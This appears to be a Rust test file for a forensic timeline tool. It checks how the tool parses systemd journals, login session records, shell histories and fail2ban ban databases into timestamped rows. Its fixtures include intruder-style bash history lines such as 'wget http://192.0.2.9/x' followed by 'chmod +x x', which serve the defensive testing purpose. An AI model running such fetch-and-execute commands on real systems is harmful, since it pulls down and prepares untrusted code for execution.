//! Files of the host that are no lines of text: the journal, sessions, histories, fail2ban's database.

use std::io::Read;
use std::path::{Path, PathBuf};

use serde_json::Value;

use tolltrace::pbx::Pbx;
use tolltrace::readers::{Opening, format};

use crate::scratch::{Scratch, code, stderr, stdout};
use crate::support::{read_at_once, read_in_steps};

fn rows(scratch: &Scratch, file: &Path) -> Vec<Value> {
    let output = scratch.run(&["timeline", &file.to_string_lossy(), "--tz", "UTC"]);
    assert_eq!(code(&output), 0, "{}: {}", file.display(), stderr(&output));
    stdout(&output).lines().map(|line| serde_json::from_str(line).expect("a row is JSON")).collect()
}

fn write(scratch: &Scratch, name: &str, bytes: &[u8]) -> PathBuf {
    let path = scratch.path().join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, bytes).unwrap();
    path
}

fn journal(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/journal").join(name);
    let packed = std::fs::read(path).unwrap();
    let mut bytes = Vec::new();
    match name.ends_with(".gz") {
        true => flate2::read::GzDecoder::new(packed.as_slice()).read_to_end(&mut bytes).unwrap(),
        false => packed.as_slice().read_to_end(&mut bytes).unwrap(),
    };
    bytes
}

fn told(scratch: &Scratch, file: &Path) -> Vec<[Value; 5]> {
    let keys = ["datetime", "action", "address", "account", "reason"];
    rows(scratch, file).iter().map(|row| keys.map(|key| row[key].clone())).collect()
}

#[test]
fn a_journal_tells_the_same_in_every_form() {
    let scratch = Scratch::new();
    let of = |name: &str| {
        let file = write(&scratch, name.trim_end_matches(".gz"), &journal(name));
        told(&scratch, &file)
    };
    let export = of("journal.export");
    let count = |action: &str| export.iter().filter(|row| row[1] == action).count();
    assert_eq!((count("probe"), count("auth-failed"), count("auth-ok")), (6, 6, 3));
    assert_eq!((count("command"), count("file-fetched"), export.len()), (6, 3, 24));
    assert_eq!(of("journal.json"), export);
    assert_eq!(of("compact.journal.gz"), export);
    assert_eq!(of("plain.journal.gz"), export);
    // The longest message is packed in this one.
    assert_eq!(of("compressed.journal.gz"), export);
    let output = scratch.run(&["inventory", &scratch.path().join("compressed.journal").to_string_lossy()]);
    assert!(!stdout(&output).contains("packed messages"), "{}", stdout(&output));
}

#[test]
fn a_damaged_journal_tells_what_stands_before() {
    let scratch = Scratch::new();
    let whole = journal("compact.journal.gz");
    let all = told(&scratch, &write(&scratch, "whole.journal", &whole));
    let cut = told(&scratch, &write(&scratch, "cut.journal", &whole[..whole.len() - 4_000]));
    assert!(!cut.is_empty() && cut.len() < all.len());
    assert_eq!(all[..cut.len()], cut[..]);
    // Every byte of the last objects spoilt in turn: nothing else is lost, and nothing hangs.
    for at in (whole.len() - 900..whole.len()).step_by(53) {
        let mut spoilt = whole.clone();
        spoilt[at] ^= 0xff;
        assert!(told(&scratch, &write(&scratch, "spoilt.journal", &spoilt)).len() + 4 >= all.len(), "{at}");
    }
}

/// Builds a record of x86's `struct utmp`.
fn session(kind: u16, line: &str, user: &str, host: &str, seconds: u32, address: [u8; 4]) -> Vec<u8> {
    let mut record = vec![0; 384];
    record[..2].copy_from_slice(&kind.to_le_bytes());
    for (at, text) in [(8, line), (44, user), (76, host)] {
        record[at..at + text.len()].copy_from_slice(text.as_bytes());
    }
    record[340..344].copy_from_slice(&seconds.to_le_bytes());
    record[348..352].copy_from_slice(&address);
    record
}

#[test]
fn sessions_are_read_and_failures_told_from_terminals() {
    let scratch = Scratch::new();
    let records = [
        session(2, "~", "reboot", "6.1.0-37-amd64", 1_746_180_600, [0; 4]),
        session(6, "tty1", "LOGIN", "", 1_746_180_601, [0; 4]),
        session(7, "pts/0", "bob", "name.example", 1_746_180_700, [192, 0, 2, 7]),
        session(6, "ssh:notty", "ro\u{1}ot", "198.51.100.4", 1_746_180_800, [0; 4]),
        session(8, "pts/0", "", "", 1_746_180_900, [0; 4]),
        vec![7; 100],
    ];
    let file = write(&scratch, "var/log/wtmp", &records.concat());
    let rows = rows(&scratch, &file);
    let told: Vec<_> =
        rows.iter().map(|row| (&row["action"], &row["account"], &row["address"], &row["line"])).collect();
    let told = serde_json::to_value(told).unwrap();
    let wanted = serde_json::json!([
        ["server", null, null, 1],
        ["auth-ok", "bob", "192.0.2.7", 3],
        ["auth-failed", "ro\u{1}ot", "198.51.100.4", 4],
    ]);
    assert_eq!(told, wanted);
    assert_eq!(rows[1]["datetime"], "2025-05-02T10:11:40.000000Z");
    let failed = write(&scratch, "var/log/btmp", &session(7, "tty1", "bob", "", 1_746_180_700, [0; 4]));
    assert_eq!(self::rows(&scratch, &failed)[0]["action"], "auth-failed");
    // Bytes of noise are no sessions.
    let noise = write(&scratch, "noise", &[7; 800]);
    assert_eq!(code(&scratch.run(&["timeline", &noise.to_string_lossy()])), 3);
}

#[test]
fn records_in_order_are_the_same_in_any_cut() {
    let good = session(7, "pts/0", "bob", "", 1_746_180_700, [192, 0, 2, 7]);
    let sessions = [good.clone(), good, vec![9; 384]].concat();
    let history = "ls\n#1746180600\nwget x\n\n#1746180660\n#1746180661\nid\n#1746180700\n";
    let files = [
        ("sessions", "wtmp", sessions.repeat(5)),
        ("shell-history", "root/.bash_history", history.repeat(5).into()),
    ];
    for (word, path, bytes) in files {
        let opening = Opening { path, head: &bytes, pbx: &Pbx::default(), machine: None };
        let reader = (format(word).unwrap().open)(&opening).unwrap().reader;
        let whole = read_at_once(reader.as_ref(), &bytes);
        assert!(whole.entries.len() >= 5, "{word}");
        for step in [1, 7, 100, 385, 1_000] {
            assert_eq!(read_in_steps(reader.as_ref(), &bytes, step), whole, "{word} in steps of {step}");
        }
    }
}

#[test]
fn last_logins_bear_the_users_number() {
    let scratch = Scratch::new();
    let mut bytes = vec![0; 292 * 1_001];
    let record = &mut bytes[292 * 1_000..];
    record[..4].copy_from_slice(&1_746_180_600_u32.to_le_bytes());
    record[4..9].copy_from_slice(b"pts/0");
    record[36..45].copy_from_slice(b"192.0.2.7");
    let rows = rows(&scratch, &write(&scratch, "var/log/lastlog", &bytes));
    assert_eq!(rows.len(), 1);
    assert_eq!((&rows[0]["account"], &rows[0]["address"]), (&"1000".into(), &"192.0.2.7".into()));
    assert_eq!(rows[0]["message"], "user 1000 on pts/0 from 192.0.2.7");
}

#[test]
fn what_has_no_time_bears_that_of_its_file() {
    let scratch = Scratch::new();
    let path = write(&scratch, "root/.bash_history", b"wget http://192.0.2.9/x\nchmod +x x\n");
    let at = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_746_180_600);
    std::fs::File::options().write(true).open(&path).unwrap().set_modified(at).unwrap();
    write(
        &scratch,
        "var/log/auth.log",
        b"2026-05-02T10:10:00+00:00 pbx sshd[1]: Failed password for root from 192.0.2.7 port 9 ssh2\n",
    );
    let rows = rows(&scratch, scratch.path());
    let told: Vec<_> = rows
        .iter()
        .map(|row| (row["datetime"].as_str().unwrap(), row["timestamp_desc"].as_str().unwrap()))
        .collect();
    let by_file = ("2025-05-02T10:10:00.000000Z", "File Last Written, No Time in the Record");
    assert_eq!(told, [by_file, by_file, ("2026-05-02T10:10:00.000000Z", "Event Time")]);
}

#[test]
fn histories_keep_their_stamps() {
    let scratch = Scratch::new();
    scratch.file(
        "root/.bash_history",
        "apt update\n#1746180600\nwget http://192.0.2.9/x\n#1746180660\nchmod +x x\n: 1746180700:0;ls\n",
    );
    let rows = rows(&scratch, scratch.path());
    let times: Vec<_> = rows.iter().map(|row| row["datetime"].as_str().unwrap_or("").get(11..19)).collect();
    assert_eq!(times, [Some("10:10:00"), Some("10:10:00"), Some("10:11:00"), Some("10:11:40")]);
    let told: Vec<_> = rows.iter().map(|row| row["timestamp_desc"].as_str().unwrap_or("")).collect();
    assert_eq!(told[0], "Time of the Record Beside It, Which Has None Itself");
    assert_eq!(told[1..], ["Event Time"; 3]);
    assert!(rows.iter().all(|row| row["account"] == "root" && row["action"] == "command"));
}

#[test]
fn a_blockers_database_tells_its_bans() {
    let scratch = Scratch::new();
    let path = scratch.path().join("fail2ban.sqlite3");
    let database = rusqlite::Connection::open(&path).unwrap();
    database
        .execute_batch(
            "CREATE TABLE fail2banDb(version INTEGER);
             CREATE TABLE bans(jail TEXT NOT NULL, ip TEXT, timeofban INTEGER NOT NULL, data JSON);
             INSERT INTO bans VALUES('asterisk', '192.0.2.7', 1746180600, '{}'), ('sshd', '2001:db8::7', 1746180700, '{}');",
        )
        .unwrap();
    drop(database);
    let rows = rows(&scratch, &path);
    let told: Vec<_> = rows.iter().map(|row| (&row["action"], &row["address"], &row["message"])).collect();
    let wanted = serde_json::json!([
        ["banned", "192.0.2.7", "asterisk 192.0.2.7"],
        ["banned", "2001:db8::7", "sshd 2001:db8::7"],
    ]);
    assert_eq!(serde_json::to_value(told).unwrap(), wanted);
}
